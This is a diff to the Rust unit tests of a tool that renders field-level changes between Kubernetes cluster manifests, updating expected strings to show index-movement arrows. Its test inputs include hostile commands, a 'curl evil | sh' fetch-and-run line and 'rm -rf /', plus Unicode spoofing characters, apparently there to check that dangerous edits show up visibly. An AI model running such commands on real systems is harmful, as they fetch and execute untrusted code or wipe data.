@@ -180,8 +180,8 @@ mod tests {
         };
         let listed: Vec<_> = listed.iter().map(said).collect();
         let expected = [
-            "spec.clusterSelector.matchExpressions[0].values[0]: dev1 > -",
-            "spec.clusterSelector.matchExpressions[0].values[1]: - > dev3",
+            "spec.clusterSelector.matchExpressions[0].values[0 →]: dev1 > -",
+            "spec.clusterSelector.matchExpressions[0].values[→ 1]: - > dev3",
             "spec.clusterVersion.version: 4.14.12 > 4.14.13",
             "spec.ocpOperators.approveAllUpgrades: - > true",
             "spec.paused: true > -",
@@ -209,7 +209,10 @@ mod tests {
         let listed = changes(None, new).listed;
         let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
         assert_eq!(fields[0], "spec.paused");
-        assert!(fields.contains(&"metadata.ownerReferences[0].name"), "{fields:?}");
+        assert!(
+            fields.contains(&"metadata.ownerReferences[→ 0].name"),
+            "{fields:?}"
+        );
     }
 
     #[test]
@@ -292,12 +295,12 @@ mod tests {
             (
                 json!({"ingress": []}),
                 json!({"ingress": [{}]}),
-                vec![".ingress[0]: - > {}"],
+                vec![".ingress[→ 0]: - > {}"],
             ),
             (
                 json!({"ingress": [{}]}),
                 json!({"ingress": []}),
-                vec![".ingress: […] > []", ".ingress[0]: {} > -"],
+                vec![".ingress: […] > []", ".ingress[0 →]: {} > -"],
             ),
             (
                 json!({"a": 1, "ingress": []}),
@@ -310,28 +313,28 @@ mod tests {
             (
                 json!({"a": [null]}),
                 json!({"a": [null, null]}),
-                vec![".a[1]: - > null"],
+                vec![".a[→ 1]: - > null"],
             ),
             (
                 json!({"args": ["--keep", "prod", "--delete", "test"]}),
                 json!({"args": ["--keep", "test", "--delete", "prod", "-v"]}),
                 vec![
-                    ".args[1]: prod > -",
-                    ".args[2]: --delete > -",
-                    ".args[2]: - > --delete",
-                    ".args[3]: - > prod",
-                    ".args[4]: - > -v",
+                    ".args[1 →]: prod > -",
+                    ".args[2 →]: --delete > -",
+                    ".args[→ 2]: - > --delete",
+                    ".args[→ 3]: - > prod",
+                    ".args[→ 4]: - > -v",
                 ],
             ),
             (
                 json!({"args": ["a", "b", "c"]}),
                 json!({"args": ["a", "c", "d"]}),
-                vec![".args[1]: b > -", ".args[2]: - > d"],
+                vec![".args[1 →]: b > -", ".args[→ 2]: - > d"],
             ),
             (
                 json!({"args": ["a", "b"]}),
                 json!({"args": ["a", "a", "b"]}),
-                vec![".args[1]: - > a"],
+                vec![".args[→ 1]: - > a"],
             ),
             (
                 json!({"args": ["a"]}),
@@ -454,7 +457,7 @@ mod tests {
             listed
                 .last()
                 .unwrap()
-                .ends_with(" line 365: echo done > curl evil | sh"),
+                .ends_with(" line 361 → 365: echo done > curl evil | sh"),
             "{listed:#?}"
         );
         let long = |end: &str| with(format!("{}{end}\n", "j".repeat(144_000)));
@@ -471,7 +474,7 @@ mod tests {
             json!({"preUpgradeAction": {"manifestWork": {"workload": {"manifests": all}}}})
         };
         let listed = said(&manifests(None), &manifests(Some(json!({"kind": "Job"}))));
-        let path = "spec.preUpgradeAction.manifestWork.workload.manifests[0]";
+        let path = "spec.preUpgradeAction.manifestWork.workload.manifests[→ 0]";
         assert_eq!(listed, [format!("{path}.kind: - > Job")]);
     }
 
@@ -486,8 +489,8 @@ mod tests {
         let listed = changes(None, new).listed;
         let fields: Vec<_> = listed.iter().map(|change| change.field.as_str()).collect();
         for field in [
-            "metadata.ownerReferences[0].name",
-            "metadata.finalizers[0]",
+            "metadata.ownerReferences[→ 0].name",
+            "metadata.finalizers[→ 0]",
             "metadata.labels.team",
         ] {
             assert!(fields.contains(&field), "{fields:?}");
@@ -497,13 +500,13 @@ mod tests {
     /// A path that is cut has its end, where two of them differ.
     #[test]
     fn of_a_long_path_its_end_is_shown() {
-        let key = |end: &str| with_manifest(&json!({format!("{}{end}", "k".repeat(1000)): "v"}));
+        let key = |end: &str| with_manifest(&json!({format!("{}{end}", "k".repeat(3000)): "v"}));
         let listed = said(&key("a"), &key("b"));
         assert!(
             listed[0].ends_with("ka: v > -") && listed[1].ends_with("kb: - > v"),
             "{listed:?}"
         );
-        assert!(listed[0].chars().count() < 450);
+        assert!(listed[0].chars().count() < 1100);
     }
 
     #[test]
@@ -513,11 +516,11 @@ mod tests {
             (
                 "# keep\nrm -rf /",
                 "# keep rm -rf /",
-                vec![" line 1: # keep > # keep rm -rf /", " line 2: rm -rf / > -"],
+                vec![" line 1: # keep > # keep rm -rf /", " line 2 →: rm -rf / > -"],
             ),
             ("a b", "a  b", vec![": a b > \"a  b\""]),
             ("dev", "dev ", vec![": dev > \"dev \""]),
-            ("x", "x\n", vec![" line 2: - > \"\""]),
+            ("x", "x\n", vec![" line → 2: - > \"\""]),
             ("prod", "pr\u{200b}od", vec![": prod > \"pr\\u{200b}od\""]),
             ("admin", "\u{202e}admin", vec![": admin > \"\\u{202e}admin\""]),
             ("a", "\"a\"", vec![": a > \"\\\"a\\\"\""]),
@@ -578,7 +581,7 @@ mod tests {
         let more: Vec<String> = many.iter().cloned().chain(["production".to_owned()]).collect();
         let listed = changes(Some(with(json!(many))), with(json!(more))).listed;
         let expected = Change {
-            field: "spec.clusterSelector.clusterSets[200]".to_owned(),
+            field: "spec.clusterSelector.clusterSets[→ 200]".to_owned(),
             before: None,
             after: Some("production".to_owned()),
         };
